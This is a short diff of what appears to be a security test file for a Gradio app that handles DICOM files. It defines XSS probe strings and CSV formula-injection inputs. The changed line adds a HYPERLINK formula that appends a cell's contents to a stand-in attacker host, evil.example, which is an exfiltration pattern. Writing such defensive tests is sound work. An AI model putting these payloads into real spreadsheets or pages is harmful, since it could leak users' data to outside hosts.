@@ -24,7 +24,7 @@ def entity(js: str) -> str:
 
 XSS = f"<img src=x onerror={entity('window.__xss=1')}>"  # survives .upper()
 XSS_NAME = "<img src=x onerror=window.__xss=1> R&amp;D.dcm"  # Gradio drops < and > from names; & stays
-FORMULAS = ('=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(1)", "\tTAB", "\rCR")
+FORMULAS = ('=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tTAB", "\rCR")
 
 
 @contextlib.contextmanager
